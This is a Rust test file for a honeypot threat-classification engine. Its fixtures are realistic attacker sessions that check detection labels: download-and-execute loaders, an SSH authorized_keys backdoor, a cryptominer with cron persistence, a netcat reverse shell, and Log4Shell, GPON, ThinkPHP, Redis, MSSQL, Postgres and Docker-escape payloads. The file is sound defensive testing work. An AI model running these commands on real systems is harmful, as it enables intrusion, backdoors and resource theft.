//! Realistic sessions, written from documented attacks, against the default catalog: each must
//! land on the behavior an analyst would give it. These tests fail when an edit to the catalog
//! breaks the classification of real tradecraft.

use sikker_engine::{Engine, Outcome};
use sikker_event::{Auth, AuthMethod, Event, EventData, Protocol, RawBytes, Request, Transfer};
use std::collections::BTreeMap;
use std::sync::OnceLock;
use uuid::Uuid;

fn engine() -> &'static Engine {
    static E: OnceLock<Engine> = OnceLock::new();
    E.get_or_init(Engine::builtin)
}

fn ev(p: Protocol, data: EventData) -> Event {
    Event::new(
        "t",
        Uuid::from_u128(1),
        p,
        "198.51.100.4".parse().unwrap(),
        40000,
        p.standard_port(),
        data,
    )
}

fn login(p: Protocol, user: &str, pass: &str) -> Event {
    ev(
        p,
        EventData::Auth(Auth {
            method: AuthMethod::Password,
            username: user.into(),
            password: Some(pass.into()),
            key_type: None,
            key_fingerprint: None,
            success: true,
        }),
    )
}

fn cmds(p: Protocol, lines: &[&str]) -> Vec<Event> {
    lines
        .iter()
        .map(|l| ev(p, EventData::Command { line: (*l).into() }))
        .collect()
}

fn req(p: Protocol, r: Request) -> Event {
    ev(p, EventData::Request(r))
}

fn http(method: &str, target: &str, headers: &[(&str, &str)], body: &str) -> Event {
    req(
        Protocol::Http,
        Request {
            method: Some(method.into()),
            target: Some(target.into()),
            headers: headers
                .iter()
                .map(|(k, v)| ((*k).into(), (*v).into()))
                .collect(),
            body: (!body.is_empty()).then(|| RawBytes(body.as_bytes().to_vec())),
            ..Default::default()
        },
    )
}

fn redis(args: &[&str]) -> Event {
    req(
        Protocol::Redis,
        Request {
            args: args.iter().map(|a| (*a).into()).collect(),
            ..Default::default()
        },
    )
}

fn sql(p: Protocol, text: &str) -> Event {
    let mut fields = BTreeMap::new();
    fields.insert("sql".to_string(), text.to_string());
    req(
        p,
        Request {
            fields,
            ..Default::default()
        },
    )
}

#[track_caller]
fn expect(events: &[Event], behavior: &str) {
    let e = engine();
    let c = e.classify(events);
    assert_eq!(
        c.outcome,
        Outcome::Behavior(behavior.into()),
        "primitives: {:?}",
        c.primitives
    );
    assert_eq!(
        c,
        e.classify_naive(events),
        "compiled and naive matchers disagree"
    );
}

#[test]
fn mirai_style_ssh_loader() {
    let mut s = vec![login(Protocol::Ssh, "root", "123456")];
    s.extend(cmds(
        Protocol::Ssh,
        &["cd /tmp; wget http://x/bins.sh; chmod 777 bins.sh; sh bins.sh"],
    ));
    expect(&s, "malware-loader");
}

#[test]
fn mirai_telnet_loader_with_busybox_probes_and_default_creds() {
    let mut s = vec![login(Protocol::Telnet, "root", "xc3511")];
    s.extend(cmds(
        Protocol::Telnet,
        &[
            "enable",
            "system",
            "shell",
            "sh",
            "/bin/busybox ECCHI",
            "cat /proc/mounts; /bin/busybox ECCHI",
            "cd /tmp || cd /var/run || cd /mnt; /bin/busybox wget http://203.0.113.50/bins/mirai.arm7; chmod 777 mirai.arm7; ./mirai.arm7 telnet.arm7",
            "rm -rf mirai.arm7",
        ],
    ));
    expect(&s, "mirai-busybox-loader");
}

#[test]
fn default_credentials_alone() {
    expect(
        &[login(Protocol::Telnet, "root", "vizxv")],
        "iot-default-credentials",
    );
    expect(
        &[login(Protocol::Ssh, "root", "hunter2")],
        "ssh-password-guessing",
    );
}

#[test]
fn outlaw_mdrfckr_session() {
    let mut s = vec![login(Protocol::Ssh, "root", "root")];
    s.extend(cmds(
        Protocol::Ssh,
        &[
            "cd ~; chattr -ia .ssh; lockr -ia .ssh",
            "cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1+5O73fcBOx8NVbUT0bUanUV9tJ2/9p7+vD0EpZ3Tz/+0kX34uAx1RV/75GVOmNx+9EuWOnvNoaJe0QXxziIg9eLBHpgLMuakb5+BgTFB+rKJAw9u9FSTDengvS8hX1kNFS4Mjux0hJOK8rvcEmPecjdySYMb66nylAKGwCEE6WEQHmd1mUPgHwGQ0hWCwsQk13yCGPK5w6hYp5zYkFnvlC8hGmd4Ww+u97k6pfTGTUbJk14ujvcD9iUKQTTWYYjIIu5PmUux5bsZ0R4WFwdIe6+i6rBLAsPKgAySVKPRK+oRw== mdrfckr\">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~",
            "cat /proc/cpuinfo | grep name | wc -l",
            "echo \"root:lLPt9RKLVNM4\"|chpasswd|bash",
            "rm -rf /tmp/secure.sh; rm -rf /tmp/auth.sh; pkill -9 secure.sh; pkill -9 auth.sh; echo > /etc/hosts.deny; pkill -9 sleep;",
            "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
            "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
            "ls -lh $(which ls)",
            "which ls",
            "crontab -l",
            "w",
            "uname -m",
            "top",
            "uname",
            "uname -a",
            "whoami",
            "lscpu | grep Model",
            "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'",
        ],
    ));
    expect(&s, "outlaw-ssh-backdoor");
}

#[test]
fn recon_only_and_gpu_recon() {
    let mut s = vec![login(Protocol::Ssh, "admin", "admin")];
    s.extend(cmds(
        Protocol::Ssh,
        &["uname -a", "cat /proc/cpuinfo", "nproc", "free -m", "exit"],
    ));
    expect(&s, "system-discovery");
    s.extend(cmds(
        Protocol::Ssh,
        &[
            "nvidia-smi -q | grep \"Product Name\"",
            "lspci | grep -i vga",
        ],
    ));
    expect(&s, "gpu-reconnaissance");
}

#[test]
fn miner_with_cron_persistence() {
    let mut s = vec![login(Protocol::Ssh, "root", "P@ssw0rd")];
    s.extend(cmds(
        Protocol::Ssh,
        &[
            "uname -a; nproc",
            "curl -s -L http://203.0.113.9/xmrig.tar.gz -o /tmp/x.tgz; tar xzf /tmp/x.tgz -C /tmp",
            "chmod +x /tmp/xmrig; /tmp/xmrig -o stratum+tcp://pool.supportxmr.com:3333 --donate-level 1 -B",
            "(crontab -l; echo \"*/10 * * * * /tmp/xmrig -B\") | crontab -",
            "history -c",
        ],
    ));
    expect(&s, "cryptominer-with-persistence");
}

#[test]
fn curl_pipe_sh() {
    let mut s = vec![login(Protocol::Ssh, "ubuntu", "ubuntu")];
    s.extend(cmds(
        Protocol::Ssh,
        &["curl -fsSL http://203.0.113.7/init.sh | sh"],
    ));
    expect(&s, "download-pipe-to-shell");
}

#[test]
fn connect_only_is_a_scan() {
    for p in [Protocol::Rdp, Protocol::Mysql, Protocol::Sip] {
        expect(
            &[
                ev(p, EventData::Connect),
                ev(
                    p,
                    EventData::Disconnect(sikker_event::Disconnect {
                        reason: "closed".into(),
                        duration_ms: 3,
                        bytes_in: 0,
                        bytes_out: 0,
                    }),
                ),
            ],
            "port-scan",
        );
    }
}

/// What `nmap -sV` or a banner grabber leaves on the SSH sensor: its version line and its
/// KEXINIT fingerprint, then nothing.
#[test]
fn ssh_banner_grab_is_a_scan() {
    let handshake = |method: &str, target: &str| {
        req(
            Protocol::Ssh,
            Request {
                method: Some(method.into()),
                target: Some(target.into()),
                ..Default::default()
            },
        )
    };
    expect(
        &[
            ev(Protocol::Ssh, EventData::Connect),
            handshake("identification", "SSH-2.0-Nmap-SSH2-Hostkey"),
            handshake("kexinit", "c1c596caaeb93c566b8ecf3cae9b5a9e"),
        ],
        "port-scan",
    );
}

#[test]
fn unknown_command_mix_is_unclassified() {
    let mut s = vec![login(Protocol::Ssh, "root", "root")];
    s.extend(cmds(
        Protocol::Ssh,
        &[
            "wget http://h/x",
            "cat /etc/shadow",
            "nc -e /bin/sh 1.2.3.4 9",
        ],
    ));
    let c = engine().classify(&s);
    assert_eq!(c.outcome, Outcome::Unclassified, "{:?}", c.primitives);
    assert!(c.primitives.contains("cmd-etc-shadow"));
}

#[test]
fn http_exploits() {
    expect(
        &[http(
            "GET",
            "/",
            &[("User-Agent", "${jndi:ldap://203.0.113.3:1389/a}")],
            "",
        )],
        "log4shell-exploitation",
    );
    expect(
        &[http(
            "POST",
            "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
            &[("User-Agent", "Go-http-client/1.1")],
            "<?php echo md5('phpunit'); ?>",
        )],
        "phpunit-eval-stdin-rce",
    );
    expect(
        &[http(
            "POST",
            "/GponForm/diag_Form?images/",
            &[("User-Agent", "Hello, World")],
            "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://203.0.113.5/gpon+-O+/tmp/gaf;sh+/tmp/gaf`&ipv=0",
        )],
        "iot-router-exploitation",
    );
    expect(
        &[http("GET", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21", &[], "")],
        "thinkphp-rce",
    );
    expect(
        &[http(
            "GET",
            "/.env",
            &[("User-Agent", "python-requests/2.31")],
            "",
        )],
        "secret-file-harvesting",
    );
    expect(
        &[http("GET", "/.git/config", &[], "")],
        "secret-file-harvesting",
    );
    expect(
        &[http(
            "GET",
            "/",
            &[("User-Agent", "Mozilla/5.0 zgrab/0.x")],
            "",
        )],
        "web-crawl",
    );
}

#[test]
fn redis_attacks() {
    expect(
        &[
            redis(&["INFO"]),
            redis(&["FLUSHALL"]),
            redis(&[
                "SET",
                "backup1",
                "\n\n*/2 * * * * root cd1 -fsSL http://203.0.113.8/cr.sh | sh\n\n",
            ]),
            redis(&["CONFIG", "SET", "dir", "/var/spool/cron/"]),
            redis(&["CONFIG", "SET", "dbfilename", "root"]),
            redis(&["SAVE"]),
        ],
        "redis-cron-write",
    );
    expect(
        &[
            redis(&["SLAVEOF", "203.0.113.2", "21000"]),
            redis(&["CONFIG", "SET", "dbfilename", "exp.so"]),
            redis(&["MODULE", "LOAD", "./exp.so"]),
            redis(&["SLAVEOF", "NO", "ONE"]),
            redis(&["system.exec", "id"]),
        ],
        "redis-rogue-master-rce",
    );
}

#[test]
fn databases() {
    expect(
        &[
            login(Protocol::Mssql, "sa", "sa"),
            sql(
                Protocol::Mssql,
                "EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE",
            ),
            sql(Protocol::Mssql, "EXEC xp_cmdshell 'whoami'"),
        ],
        "mssql-xp-cmdshell",
    );
    expect(
        &[
            login(Protocol::Postgresql, "postgres", "postgres"),
            sql(
                Protocol::Postgresql,
                "DROP TABLE IF EXISTS cmd_exec; CREATE TABLE cmd_exec(cmd_output text)",
            ),
            sql(Protocol::Postgresql, "COPY cmd_exec FROM PROGRAM 'id'"),
        ],
        "postgresql-copy-from-program",
    );
    expect(
        &[login(Protocol::Mysql, "root", ""), sql(Protocol::Mysql, "show databases"), sql(Protocol::Mysql, "drop database shop"), sql(Protocol::Mysql, "CREATE TABLE README_TO_RECOVER_X (text_field text)"), sql(Protocol::Mysql, "INSERT INTO README_TO_RECOVER_X VALUES('To recover your lost databases send 0.03 BTC to ...')")],
        "database-ransom",
    );
}

#[test]
fn docker_host_mount() {
    let body = r#"{"Image":"alpine","Cmd":["chroot","/mnt","sh","-c","curl -s http://203.0.113.4/d.sh | sh"],"HostConfig":{"Binds":["/:/mnt"],"Privileged":true}}"#;
    expect(
        &[
            req(
                Protocol::Docker,
                Request {
                    method: Some("GET".into()),
                    target: Some("/v1.41/info".into()),
                    ..Default::default()
                },
            ),
            req(
                Protocol::Docker,
                Request {
                    method: Some("POST".into()),
                    target: Some("/v1.41/containers/create".into()),
                    body: Some(RawBytes(body.as_bytes().to_vec())),
                    ..Default::default()
                },
            ),
            req(
                Protocol::Docker,
                Request {
                    method: Some("POST".into()),
                    target: Some("/v1.41/containers/abc/start".into()),
                    ..Default::default()
                },
            ),
        ],
        "docker-host-escape",
    );
}

#[test]
fn sip_and_friends() {
    expect(
        &[req(
            Protocol::Sip,
            Request {
                method: Some("OPTIONS".into()),
                target: Some("sip:100@192.0.2.1".into()),
                headers: vec![("User-Agent".into(), "friendly-scanner".into())],
                ..Default::default()
            },
        )],
        "sipvicious-scan",
    );
    let mut share = BTreeMap::new();
    share.insert("share".to_string(), "\\\\192.0.2.1\\ADMIN$".to_string());
    expect(
        &[
            req(
                Protocol::Smb,
                Request {
                    method: Some("negotiate".into()),
                    ..Default::default()
                },
            ),
            login(Protocol::Smb, "administrator", "P@ssw0rd"),
            req(
                Protocol::Smb,
                Request {
                    method: Some("tree_connect".into()),
                    fields: share,
                    ..Default::default()
                },
            ),
        ],
        "smb-admin-share-access",
    );
    expect(
        &[login(Protocol::Rdp, "administrator", "123")],
        "rdp-password-guessing",
    );
    expect(
        &[ev(
            Protocol::Ssh,
            EventData::Download(Transfer {
                url: Some("http://203.0.113.6/a.pl".into()),
                tool: Some("wget".into()),
                ..Default::default()
            }),
        )],
        "perl-ircbot-dropper",
    );
}
